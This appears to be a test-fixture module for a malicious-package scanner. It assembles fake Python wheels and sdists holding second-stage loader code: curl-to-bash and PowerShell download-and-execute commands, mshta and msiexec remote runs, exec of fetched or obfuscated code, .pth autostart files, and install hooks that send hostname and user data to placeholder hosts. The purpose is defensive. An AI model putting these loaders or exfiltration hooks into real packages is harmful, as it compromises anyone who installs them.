"""How campaigns of the last two years bring in, hide and start their second stage, in several codings."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

from tests.campaigns.at_install import at_top, hooked
from tests.campaigns.at_start import MODULE, imported
from tests.campaigns.forge import Built, Shapes, sdist, wheel
from tests.campaigns.recent_control import TEXTS as CONTROL

__all__ = ["RECENT_LOADERS"]

RECENT_LOADERS = Shapes()
TEXTS = {
    "bun-by-installer": (
        "The runtime's own installer is piped into a shell, then a script of the package is run",
        """\
import os, subprocess
_d = os.path.dirname(__file__)
subprocess.run("curl -fsSL https://bun.sh/install | bash", shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen([os.path.expanduser("~/.bun/bin/bun"), "run", os.path.join(_d, "bundle.js")], start_new_session=True)
""",
    ),
    "npx-remote-package": (
        "A package of another registry is fetched and run without asking",
        """\
import shutil
import subprocess as sp

if shutil.which("npx"):
    sp.Popen(["npx", "--yes", "helper-inert-pkg@latest"], stdout=sp.DEVNULL, stderr=sp.DEVNULL)
""",
    ),
    "deno-remote-script": (
        "Deno runs a remote script with every permission",
        """\
import os
os.system("deno run -A https://cdn.example.invalid/mod.ts >/dev/null 2>&1 &")
""",
    ),
    "node-inline": (
        "Node evaluates what it fetches",
        """\
from subprocess import Popen, DEVNULL
JS = "require('https').get('https://cdn.example.invalid/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"
Popen(["node", "-e", JS], stdout=DEVNULL, stderr=DEVNULL)
""",
    ),
    "powershell-iwr-iex": (
        "PowerShell evaluates what it fetches",
        """\
import subprocess
subprocess.run(["powershell.exe", "-ep", "bypass", "-c", "iwr -useb https://cdn.example.invalid/s.ps1 | iex"])
""",
    ),
    "powershell-net-webclient": (
        "PowerShell fetches by a .NET class, spelt across a joined list",
        """\
import os
cmd = " ".join(["powershell", "-NoP", "-W", "Hidden", "-Command", '"IEX(New-Object Net.WebClient).DownloadString(\\'https://cdn.example.invalid/a\\')"'])
os.popen(cmd)
""",
    ),
    "powershell-built-encoding": (
        "A command is encoded for PowerShell when it runs",
        """\
import base64, subprocess
src = "Start-BitsTransfer -Source https://cdn.example.invalid/a.exe -Destination $env:TEMP\\\\a.exe; & $env:TEMP\\\\a.exe"
enc = base64.b64encode(src.encode("utf-16-le")).decode()
subprocess.Popen(f"powershell -NoProfile -EncodedCommand {enc}", creationflags=subprocess.CREATE_NO_WINDOW)
""",
    ),
    "mshta-remote": (
        "A system tool runs a remote page",
        """\
import os, platform
if platform.system() == "Windows":
    os.system("start /min mshta https://cdn.example.invalid/x.hta")
""",
    ),
    "msiexec-remote": (
        "A remote installer is run quietly",
        """\
import subprocess
subprocess.Popen("msiexec /q /i https://cdn.example.invalid/setup.msi", shell=True)
""",
    ),
    "certutil-decode": (
        "A text in the package becomes a program by a system tool",
        """\
import os
here = os.path.dirname(os.path.abspath(__file__))
os.system(f'certutil -decode "{here}\\\\license.txt" "%TEMP%\\\\u.exe" && start "" "%TEMP%\\\\u.exe"')
""",
    ),
    "batch-written": (
        "A batch file that fetches and starts is written and run",
        """\
import os, tempfile
b = os.path.join(tempfile.gettempdir(), "u.bat")
with open(b, "w") as f:
    f.write("@echo off\\ncurl -L -o %TEMP%\\\\w.exe https://cdn.example.invalid/w.exe\\nstart /b %TEMP%\\\\w.exe\\ndel %0\\n")
os.startfile(b)
""",
    ),
    "asyncio-spawns-download": (
        "A coroutine saves a program and starts it",
        """\
import asyncio, os, stat, sys
import aiofiles, aiohttp


async def bootstrap():
    path = os.path.join(os.path.expanduser("~"), ".local", "share", ".dbus-helper")
    async with aiohttp.ClientSession() as s, s.get("https://cdn.example.invalid/helper") as r:
        async with aiofiles.open(path, "wb") as f:
            await f.write(await r.read())
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    await asyncio.create_subprocess_exec(path, stdout=asyncio.subprocess.DEVNULL)


asyncio.run(bootstrap())
""",
    ),
    "wget-module": (
        "A download helper fetches a script that another interpreter runs",
        """\
import os, sys, wget
p = wget.download("https://cdn.example.invalid/stage.py", out=os.path.join(os.sep, "tmp", ".s.py"))
os.execv(sys.executable, [sys.executable, p])
""",
    ),
    "pycurl-buffer-exec": (
        "What curl's library fetches into memory is run",
        """\
from io import BytesIO
import pycurl
b = BytesIO()
c = pycurl.Curl()
c.setopt(c.URL, "https://cdn.example.invalid/s")
c.setopt(c.WRITEDATA, b)
c.perform()
exec(compile(b.getvalue(), "s", "exec"))
""",
    ),
    "zipimport-remote": (
        "A fetched archive is put on the path and imported",
        """\
import importlib, os, sys, tempfile
from urllib.request import urlretrieve
z = os.path.join(tempfile.mkdtemp(), "m.zip")
urlretrieve("https://cdn.example.invalid/m.zip", z)
sys.path.insert(0, z)
importlib.import_module("m").main()
""",
    ),
    "module-from-text": (
        "Fetched text becomes a module",
        """\
import types, requests
m = types.ModuleType("cfg")
exec(requests.get("https://gist.example.invalid/raw/cfg.py").text, m.__dict__)
m.start()
""",
    ),
    "function-from-code": (
        "Fetched bytes are unmarshalled into a function and called",
        """\
import marshal, types, urllib.request
code = marshal.loads(urllib.request.urlopen("https://cdn.example.invalid/c.bin").read())
types.FunctionType(code, globals())()
""",
    ),
    "pickle-fetched": (
        "A pickle is fetched and loaded",
        """\
import pickle
from http.client import HTTPSConnection
c = HTTPSConnection("cdn.example.invalid")
c.request("GET", "/model.pkl")
pickle.loads(c.getresponse().read())
""",
    ),
    "python-stdin": (
        "Fetched text goes to another interpreter's input",
        """\
import subprocess, sys, urllib.request
p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
p.communicate(urllib.request.urlopen("https://cdn.example.invalid/s.py").read())
""",
    ),
    "tempfile-runpy": (
        "Decrypted text is written to a temporary file and run from there",
        """\
import runpy, tempfile
from cryptography.fernet import Fernet
K = b"inertinertinertinertinertinertinertinertine="
with open(__file__.replace("__init__.py", "data.bin").replace("_core.py", "data.bin"), "rb") as f:
    src = Fernet(K).decrypt(f.read())
with tempfile.NamedTemporaryFile(suffix=".py", delete=False) as t:
    t.write(src)
runpy.run_path(t.name)
""",
    ),
    "aes-key-from-host": (
        "Code is decrypted by a key that a server gives, and run",
        """\
import base64, json, urllib.request
from Crypto.Cipher import AES
k = json.load(urllib.request.urlopen("https://keys.example.invalid/k"))["k"]
blob = base64.b64decode("aW5lcnQ" * 60 + "=")
exec(AES.new(bytes.fromhex(k), AES.MODE_CBC, blob[:16]).decrypt(blob[16:]))
""",
    ),
    "xor-loop-exec": (
        "A list of numbers is undone by XOR with a word and run",
        """\
_k = b"session"
_d = [NUMBERS]
def _f():
    return bytes(c ^ _k[i % len(_k)] for i, c in enumerate(_d)).decode()
exec(_f())
""".replace("NUMBERS", ",".join(str((7 * i) % 251) for i in range(400))),
    ),
    "compile-by-getattr": (
        "Builtins are reached by their names in pieces",
        """\
import base64
b = __import__("built" + "ins")
getattr(b, "ex" + "ec")(getattr(b, "com" + "pile")(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="), "", "ex" + "ec"))
""",
    ),
    "lambda-chain": (
        "A lambda imports its decoders inline",
        """\
_ = lambda d: __import__("zlib").decompress(__import__("base64").b64decode(d[::-1]))
exec((_)(b"=TEXT"))
""".replace("TEXT", "QWZ0" * 300),
    ),
    "steganography-pixels": (
        "Low bits of a picture's pixels become code",
        """\
from PIL import Image
import os
img = Image.open(os.path.join(os.path.dirname(__file__), "banner.png")).convert("RGB")
bits = "".join(str(ch & 1) for px in img.getdata() for ch in px)
code = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).split(b"\\0", 1)[0]
exec(code)
""",
    ),
    "whitespace-encoding": (
        "Spaces and tabs at line ends become code",
        """\
import os
raw = open(os.path.join(os.path.dirname(__file__), "README.md"), encoding="utf8").read()
bits = "".join("1" if c == "\\t" else "0" for line in raw.splitlines() for c in line[len(line.rstrip(" \\t")):])
eval(compile("".join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits) - 7, 8)), "x", "exec"))
""",
    ),
}

for title, (what, text) in TEXTS.items():
    RECENT_LOADERS.add(
        f"recent-{title}-proxy",
        what,
        lambda title=title, text=text: imported(title.replace("-", "_") + "_kit", text, proxy=True),
    )
    RECENT_LOADERS.add(
        f"recent-{title}-hook",
        what + ", at installation",
        lambda title=title, text=text: hooked(title.replace("-", "_") + "_kit", text),
    )


@RECENT_LOADERS
def recent_pth_subprocess() -> Built:
    """A .pth file starts a module of the package in another process"""
    return wheel(
        "fastrouter",
        {
            "fastrouter/__init__.py": MODULE,
            "fastrouter/_boot.py": CONTROL["poll-exec-json"][1],
            "zz_fastrouter.pth": "import subprocess,sys;subprocess.Popen([sys.executable,'-m','fastrouter._boot'],stdout=-3,stderr=-3)\n",
        },
    )


@RECENT_LOADERS
def recent_pth_runpath() -> Built:
    """A .pth file runs a data file beside it"""
    return wheel(
        "vectorstore2",
        {
            "vectorstore2/__init__.py": MODULE,
            "vectorstore2/cache.dat": TEXTS["module-from-text"][1],
            "vectorstore2.pth": "import runpy,os,site;runpy.run_path(os.path.join(site.getsitepackages()[0],'vectorstore2','cache.dat'))\n",
        },
    )


@RECENT_LOADERS
def recent_data_started() -> Built:
    """__init__ starts Python with a data file beside it, which nobody can read"""
    return wheel(
        "numberwords",
        {
            "numberwords/__init__.py": MODULE
            + "import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'words.dat')])\n",
            "numberwords/words.dat": bytes(number * number % 251 for number in range(4096)),
        },
    )


@RECENT_LOADERS
def recent_confusion_curl() -> Built:
    """An internal-looking name whose setup.py reports itself by a command"""
    return at_top(
        "acme-payments-sdk",
        'import os\nos.system("curl -s https://oob.example.invalid/$(whoami)/$(hostname)")\n',
        Summary="",
        description="",
        Author="",
    )


@RECENT_LOADERS
def recent_confusion_ping() -> Built:
    """An install command pings a name that holds host and user"""
    return hooked(
        "acme_feature_flags",
        "import os, socket, getpass\nos.system(f'ping -c 1 {socket.gethostname()}.{getpass.getuser()}.oob.example.invalid')",
    )


@RECENT_LOADERS
def recent_confusion_get_query() -> Built:
    """A base64 of host data goes into the query of a request"""
    return hooked(
        "acme_ml_common",
        "import base64, json, os, platform, requests\n"
        "info = base64.urlsafe_b64encode(json.dumps({'h': platform.node(), 'u': os.environ.get('USER'), 'p': os.getcwd()}).encode()).decode()\n"
        "requests.get('https://oob.example.invalid/?d=' + info, timeout=3)",
        "egg_info",
    )


@RECENT_LOADERS
def recent_conftest_acts() -> Built:
    """A test configuration that is shipped acts when tests are collected"""
    return sdist(
        "tinyfixtures",
        {
            "setup.py": "from setuptools import setup\nsetup(name='tinyfixtures', version='1.2.0', packages=['tinyfixtures'])\n",
            "tinyfixtures/__init__.py": MODULE,
            "tinyfixtures/conftest.py": TEXTS["python-stdin"][1],
        },
    )
